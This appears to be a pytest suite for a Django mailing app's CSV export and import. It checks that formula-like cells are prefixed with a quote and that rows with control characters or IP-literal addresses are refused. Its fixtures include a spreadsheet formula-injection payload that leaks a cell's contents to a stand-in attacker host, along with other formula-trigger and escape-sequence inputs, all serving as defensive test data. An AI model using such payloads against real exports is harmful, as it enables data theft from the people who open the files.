"""CSV rows in and out: formula-safe export cells, per-row refusal of control characters."""

import csv
import io

import pytest
from django.urls import reverse

from curator.mailing.csvio import formula_safe, read_rows, unprotect
from curator.mailing.models import Subscriber

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = {
    '=HYPERLINK("https://evil.example/?d="&A2,"Click")': '\'=HYPERLINK("https://evil.example/?d="&A2,"Click")',
    "@SUM(1)": "'@SUM(1)",
    "+1+1": "'+1+1",
    "-2+3": "'-2+3",
    "\tTabbed": "'\tTabbed",
    "\rReturned": "'\rReturned",
    "Ann O'Neil": "Ann O'Neil",
    "Plain = fine": "Plain = fine",
}


def exported_rows(admin_client) -> list[list[str]]:
    response = admin_client.get(reverse("admin:mailing_subscriber_export"))
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_it_prefixes_formula_cells_with_a_quote_on_export(admin_client):
    for i, name in enumerate(HOSTILE_NAMES):
        Subscriber.objects.create(email=f"r{i}@example.com", name=name, status="active")
    Subscriber.objects.create(email="=cmd@example.com", name="Eve", status="active")
    rows = exported_rows(admin_client)
    names = {row[1] for row in rows[1:]}
    assert names == set(HOSTILE_NAMES.values()) | {"Eve"}
    assert next(row[:2] for row in rows if row[1] == "Eve") == ["'=cmd@example.com", "Eve"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_it_quotes_every_cell_on_export(admin_client):
    Subscriber.objects.create(email="a@example.com", name="Ann", status="active")
    response = admin_client.get(reverse("admin:mailing_subscriber_export"))
    assert response.content.decode().splitlines()[1].startswith('"a@example.com","Ann","active"')


def test_it_reads_an_exported_file_back_to_the_original_values():
    text = "email,name\n" + "".join(
        f'"r{i}@example.com","{formula_safe(name).replace(chr(34), chr(34) * 2)}"\n'
        for i, name in enumerate(HOSTILE_NAMES)
        if name.strip() == name  # leading tab/CR are stripped as whitespace on import
    )
    names = [row.name for row in read_rows(text)]
    assert names == [name for name in HOSTILE_NAMES if name.strip() == name]


def test_it_leaves_a_quote_that_does_not_guard_a_formula():
    assert unprotect("'Quoted'") == "'Quoted'" and unprotect("'") == "'"


def test_it_refuses_each_row_with_a_control_character_and_keeps_the_others():
    text = (
        "email,name\nok@example.com,Ok\nnul@example.com,Bad\x00Name\nesc@example.com,\x1b[31mRed\n"
        "nul\x00@example.com,X\nfine@example.com,Fine\n"
    )
    rows = list(read_rows(text))
    assert [(r.line, r.email) for r in rows if not r.error] == [(2, "ok@example.com"), (6, "fine@example.com")]
    errors = {r.line: r.error for r in rows if r.error}
    assert set(errors) == {3, 4, 5}
    assert "U+0000" in errors[3] and "U+001B" in errors[4] and "U+0000" in errors[5]


def test_it_refuses_ip_literal_addresses_per_row():
    rows = list(read_rows("email\nuser@[127.0.0.1]\nuser@example.com\n"))
    assert "not an IP address" in rows[0].error and rows[1].email == "user@example.com"
